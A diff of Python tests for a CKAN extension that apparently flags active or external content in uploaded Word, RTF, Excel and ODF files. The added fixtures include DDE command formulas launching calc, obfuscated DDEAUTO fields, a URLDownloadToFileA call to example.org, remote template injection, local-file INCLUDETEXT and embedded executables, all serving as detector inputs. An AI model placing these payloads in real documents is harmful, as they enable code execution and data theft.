@@ -3,6 +3,7 @@
 import io
 import struct
 import zipfile
+from xml.sax.saxutils import quoteattr
 
 import docx
 import odfdo
@@ -15,7 +16,8 @@ from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.workbook.external_link import ExternalLink
 from openpyxl.workbook.external_link.external import ExternalBook
 
-from ckanext.leszno_ngo import active_content, archives
+from ckanext.leszno_ngo import archives, compound_files, instructions, rich_text
+from tests.content import files
 from tests.pure.test_archives import MOST, OLE, packed
 
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
@@ -25,6 +27,78 @@ SHARED = (
 )
 SHEET = "xl/worksheets/sheet1.xml"
 TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+FORMULAS = {
+    "IMPORTTEXT": '_xlfn._xlws.IMPORTTEXT("http://example.org/a.csv")',
+    "IMPORTCSV": 'SUM(_xlfn.importcsv ("http://example.org/a.csv"))',
+    "IMPORTXML": 'IMPORTXML("http://example.org/a","//b")',
+    "IMPORTRANGE": 'IMPORTRANGE("http://example.org/a","b")',
+    "RTD": 'RTD("a.b","serwer","c")',
+    "CALL": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.org/a","c:\\a",0,0)',
+    "EXEC": 'EXEC("calc.exe")',
+    "plik": "'file:///c:/[a.xlsx]S'!A1",
+    "sciezka": "1+'C:\\Dane\\[a.xlsx]S'!A1",
+    "serwer": "'\\\\serwer\\dane\\[a.xlsx]S'!$A$1",
+    "ksiazka": "SUM([a.xlsx]S!A1:A3)",
+    "DDE": "cmd|'/C calc'!A0",
+    "DDE-bez": "MSEXCEL|a!b",
+    "DDE-cudzyslow": "'a\"b'!A1&cmd|'/C calc'!A0&\"\"",
+    "DDE-nawias": "SUM(T['\"])+cmd|'/C calc'!A0&\"\"",
+    "klik": 'HYPERLINK("macro:///a.b.c","dalej")',
+    "klik-serwer": 'HYPERLINK("\\\\serwer\\a.exe")',
+    "posrednio": "INDIRECT(\"'file:///c:/[a.xlsx]S'!A1\")",
+}
+QUIET_FORMULAS = (
+    *("SUM(A1:B2)", "VLOOKUP(A1,'Rok 2025'!$A$1:$B$9,2,FALSE)", "SUM('Sty:Gru'!A1)"),
+    *("Tabela1[[#This Row],[Kwota]]/Tabela1[[#Totals],[Kwota '[zł'] | razem]]", "SUM(T[a]/T[b])"),
+    *('HYPERLINK("https://www.leszno.pl/","Leszno")', 'HYPERLINK("#\'Rok 2025\'!A1","Rok")'),
+    *('IF(A1="a|b!c","[uwaga] stop!","C:\\Dane")', "IMREAL(A1)", "SUM({1,2;3,4})", "[1]S!A1"),
+    *('HYPERLINK("mailto:bom@leszno.pl")', "INDIRECT(\"'Rok '&A1&'!B2\")", "'Dane | 2025'!A1"),
+)
+#: Fields as RTF may have them in pieces, and why they are refused.
+RTF_BAD = (
+    r"{\field{\*\fldinst {DDE}{AUTO c:\\windows\\cmd.exe}}}",
+    r"{\field{\*\fldinst D\'44EAUTO cmd calc}}",
+    r"{\field{\*\fldinst {\b D}{\i\fs20 D}{{E}AUTO} cmd}}",
+    "{\\field{\\*\\fldinst DD\nEAU\r\nTO cmd}}",
+    r"{\field{\*\fldinst \u68?\u68 ?EAUTO cmd}}",
+    r"{\field{\*\fldinst \uc2\u68 ab\u68\'41\'42E cmd}}",
+    r"{\field{\*\fldinst D{\*\nieznane x}DE cmd}}",
+    r"{\field{\*\fldinst {\upr{x}{\*\ud DDE}} cmd}}",
+    r'{\field{\*\fldinst INCLUDEPICTURE "http://example.org/a.png" \\* MERGEFORMAT}}',
+    r'{\field{\*\fldinst {INCLUDE}{PICTURE} \\d "\\\\\\\\serwer\\\\a.png"}}',
+    r"{\field{\*\fldinst INCLUDEPICTURE \'22\'68\'74tp://example.org/a.png\'22}}",
+    r'{\field{\*\fldinst INCLUDEPICTURE "file:///c:/a.png"}}',
+    r'{\field{\*\fldinst INCLUDETEXT "c:\\\\tajne.txt"}}',
+    r'{\field{\*\fldinst LINK Excel.Sheet.12 "c:\\\\a.xlsx" "S!A1" \\a}}',
+    r"{\field{\*\fldinst EMBED Package}}",
+    r'{\field{\*\fldinst HYPERLINK "macro:///a.b.c"}}',
+    r'{\field{\*\fldinst IF 1=1 {\field{\*\fldinst {DDE} a}{\fldrslt x}} ""}}',
+    r"{\field{\*\fldinst {\field{\*\fldinst QUOTE x}{\fldrslt DDEAUTO}} cmd}}",
+    r"{\field{\*\fldinst DDEAUTO cmd",
+    r"{\field{\*\fldinst {\pict\bin5 }}}{}DDE cmd}}",
+    r"{\*\template \'68ttp://example.org/a.dotm}",
+    r"{\*\template {ht}{tp}://example.org/a.dotm}",
+    r"{\*\template file://serwer/a.dotm}",
+    r"{\shp{\*\shpinst{\sp{\sn pibFlags}{\sv 14}}}}",
+)
+RTF_GOOD = (
+    r'{\field{\*\fldinst {HYPERLINK "https://www.leszno.pl/dde2" \\o "Link do strony"}}'
+    r"{\fldrslt{\ul Leszno}}}",
+    r"{\field{\*\fldinst PAGE  \\* MERGEFORMAT}{\fldrslt 1}}",
+    r'{\field{\*\fldinst {TOC \\o "1-3"}}{\fldrslt '
+    r"{\field{\*\fldinst PAGEREF _Toc1}{\fldrslt 2}}}}",
+    r'{\field{\*\fldinst DATE \\@ "d.MM.yyyy"}{\fldrslt 1.12.2026}} DDEAUTO http://a.pl',
+    r'{\field{\*\fldinst INCLUDEPICTURE "cid:a.png@01D1" \\* MERGEFORMATINET}}',
+    r"{\field{\*\fldinst FORMTEXT {\*\formfield{\fftype0{\*\ffname Link}}}}{\fldrslt a}}",
+    r'{\field{\*\fldinst XE "Import danych"}}{\*\template C:\\a\\Normal.dotm}',
+    r"{\fonttbl{\f0 Arial;}}{\pict\pngblip 8950}{\sp{\sn pibFlags}{\sv 2}}Za\u380?\'f3\'b3\~",
+)
+
+
+def rich(inside):
+    return f"{{\\rtf1\\ansi {inside}\\par}}".encode()
 
 
 def saved(document):
@@ -90,6 +164,46 @@ def old_word(template, first=""):
     strings = [first, template, *[""] * 16]
     written = [struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in strings]
     return OLE + bytes(65_000) + struct.pack("<HHH", 0xFFFF, 18, 0) + b"".join(written) + bytes(99)
+
+
+def compound(*streams, beginning=b""):
+    """An OLE file as its sectors lie: a header, then what each of its streams begins with."""
+    sectors = (stream + bytes(-len(stream) % 512) for stream in streams)
+    return OLE + b"".join(sectors) + "CONTENTS".encode("utf-16-le") + beginning
+
+
+#: A program of Windows whose header of DOS says nothing but where the other one is.
+PORTABLE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(20)
+
+
+def changed_object(content):
+    """A text with an OLE object."""
+    document = odfdo.Document("text")
+    file = io.BytesIO(saved(document))
+    with zipfile.ZipFile(file, "a") as archive:
+        archive.writestr("Object 1", content)
+    return file.getvalue()
+
+
+def sheet_of_odf(attribute):
+    cell = f'<table:table table:name="a"><table:table-row><table:table-cell {attribute}/>'
+    return text(f"{cell}</table:table-row></table:table>")
+
+
+def nested_field(*marks):
+    """A Word document of fields in each other: marks, instructions, and results (``t:``)."""
+    document = docx.Document()
+    paragraph = document.add_paragraph("Umowa")
+    for mark in marks:
+        run = paragraph.add_run()
+        if mark in ("begin", "separate", "end"):
+            one = OxmlElement("w:fldChar")
+            one.set(qn("w:fldCharType"), mark)
+        else:
+            one = OxmlElement("w:t" if mark.startswith("t:") else "w:instrText")
+            one.text = mark.removeprefix("t:")
+        run._r.append(one)
+    return saved(document)
 
 
 def in_utf16(book):
@@ -190,6 +304,68 @@ BAD = {
     "szablon.rtf": ("external", b"{\\rtf1{\\*\\template http://example.org/a.dotm}Umowa}"),
     "pole.rtf": ("external", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd calc}}}"),
 }
+BAD |= {f"pole-{n}.rtf": ("external", rich(inside)) for n, inside in enumerate(RTF_BAD)}
+BAD |= {
+    "obiekt.rtf": ("embedded", rich(r"{\object\objautlink\objupdate}")),
+    "daleko.rtf": ("external", rich(r"\b a\b0 " * 20_000 + RTF_BAD[0])),
+    "uciety.rtf": ("damaged", rich(r"{\pict\bin999 a}")),
+    "inna-nazwa.doc": ("external", rich(RTF_BAD[1])),
+    "tekst-z-pliku.docx": ("external", word(field=['INCLUDETEXT "c:\\\\tajne.txt"'])),
+    "obraz-polem.docx": ("external", word(field=[" INCLUDE", 'PICTURE \\d "http://a.pl/x.png"'])),
+    "makro.docx": ("external", word(link="vnd.sun.star.script:a.b?language=Basic")),
+    "pole-z-pola.docx": (
+        "external",
+        nested_field("begin", "D", "begin", ' QUOTE "" ', "separate", "end", "DEAUTO cmd", "end"),
+    ),
+    "pole-z-wyniku.docx": (
+        "external",
+        nested_field(
+            *("begin", "begin", " QUOTE a ", "separate", "t:DDEAUTO", "end", " cmd", "end")
+        ),
+    ),
+    **{
+        f"makro-{n}.odt": ("macros", text(f"<text:p><text:a {LINK.format(address)}/></text:p>"))
+        for n, address in enumerate(
+            ["vnd.sun.star.script:a.b?language=Basic", "macro:///a.b.c", " MACRO:a.b", "slot:5500"]
+        )
+    },
+    "makro-obrazu.odt": (
+        "macros",
+        text(f"<text:p><draw:a {LINK.format('macro:///a.b.c')}><draw:frame/></draw:a></text:p>"),
+    ),
+    "wykonaj.odt": ("macros", text('<text:p><text:execute-macro text:name="a"/></text:p>')),
+    "skrypt.odt": ("macros", text("<text:p><text:script>x</text:script></text:p>")),
+    **{f"{n}.xlsx": ("external", workbook(cell=f"={f}")) for n, f in FORMULAS.items()},
+    "nazwa.xlsx": ("external", workbook(name=FORMULAS["plik"])),
+    "nazwa-dde.xlsx": ("external", workbook(name=FORMULAS["DDE"])),
+    **{
+        f"{n}.ods": ("external", sheet_of_odf(f"table:formula={quoteattr(formula)}"))
+        for n, formula in {
+            "pobiera": 'of:=WEBSERVICE("http://example.org/a")',
+            "obraz": 'of:=COM.MICROSOFT.IMAGE("http://example.org/a")',
+            "plik": "of:=['file:///c:/a.ods'#$S.A1]",
+            "excel": "msoxl:=cmd|'/C calc'!A0",
+            "dde": 'of:=DDE("soffice";"a";"b")',
+            "klik": 'of:=HYPERLINK("vnd.sun.star.script:a.b";"c")',
+            "posrednio": "of:=INDIRECT(\"'file:///c:/a.ods'#S.A1\")",
+        }.items()
+    },
+    **{
+        f"program-{n}.odt": ("program", changed_object(program))
+        for n, program in enumerate(
+            [
+                compound(files.EXE),
+                compound(bytes(900), files.EXE),
+                compound(bytes(64) + b"\x7fELF\2\1\1" + bytes(99)),
+                compound(b"#!/bin/sh\nls"),
+                compound(b"a" * 70_000 + PORTABLE),
+                compound(b"<?php system(1);"),
+            ]
+        )
+    },
+    "program.doc": ("program", compound(files.EXE)),
+    "program.docx": ("program", packed({"word/embeddings/oleObject1.bin": compound(files.EXE)})),
+}
 PAGES = (
     *("<html><script>alert(1)</script>", "<!DOCTYPE html><p onclick='x()'>", "<form action=x>"),
     *("<html><meta http-equiv=refresh content='0;url=https://example.org'>", "<iframe src=x>"),
@@ -212,6 +388,26 @@ GOOD = {
     ),
     "szablon.odt": text(meta=f"<meta:template {LINK.format('../../Szablony/a.ott')}/>"),
     "dane.xml": b"<dane><script>1</script><a href='http://example.org'/></dane>",
+    **{f"{n}.rtf": rich(inside) for n, inside in enumerate(RTF_GOOD)},
+    "obraz.rtf": rich(r"{\pict\bin9 {\object}} a}"),
+    "spis.docx": nested_field(
+        *(
+            "begin",
+            ' TOC \\o "1-3" ',
+            "separate",
+            "begin",
+            ' HYPERLINK "https://a.pl/" ',
+            "separate",
+        )
+        + ("t:Link do DDE", "end", "t:DDEAUTO", "end")
+    ),
+    "obraz-obok.docx": word(field=[r' INCLUDEPICTURE "C:\\Users\\a.png" \* MERGEFORMAT ']),
+    **{f"{n}.xlsx": workbook(cell=f"={f}") for n, f in enumerate(QUIET_FORMULAS)},
+    "tekst.xlsx": workbook(cell="cmd|'/C calc'!A0 oraz 'file:///c:/[a.xlsx]S'!A1, WEBSERVICE(x)"),
+    "wlasne.ods": sheet_of_odf(
+        f"table:formula={quoteattr('of:=VLOOKUP([.A1];[$Rok.A1:.B9];2)+SUM({1|2})![.A1]')}"
+    ),
+    "obiekt.odt": changed_object(compound(b"Gmina MZ", b"mz" * 32, b"MZ" + b"\xff" * 90)),
     "zepsute.xml": b"<dane><a></dane>",
     "trasa.kml": b'<kml xmlns="http://www.opengis.net/kml/2.2"><href>https://a.pl/x.png</href></kml>',
     "strona.zip": packed(
@@ -274,5 +470,20 @@ def test_paths_of_this_machine_are_told_from_addresses():
         "mailto:a@b.pl",
         "",
     )
-    assert all(map(active_content.is_remote, remote))
-    assert not any(map(active_content.is_remote, local))
+    assert all(map(instructions.is_remote, remote))
+    assert not any(map(instructions.is_remote, local))
+
+
+@pytest.mark.parametrize("size", [1, 7, 61])
+def test_nothing_depends_on_where_a_file_is_cut(size):
+    for inside in (*RTF_BAD, *RTF_GOOD):
+        content, watcher = rich(inside), rich_text.Watcher()
+        pieces = [content[at : at + size] for at in range(0, len(content), size)]
+        codes = [watcher.feed(piece, last=False) for piece in pieces] + [
+            watcher.feed(b"", last=True)
+        ]
+        assert any(codes) == (inside in RTF_BAD), inside
+    content, watcher = compound(bytes(64), PORTABLE), compound_files.Watcher()
+    assert "program" in [
+        watcher.feed(content[at : at + size], last=False) for at in range(0, len(content), size)
+    ]
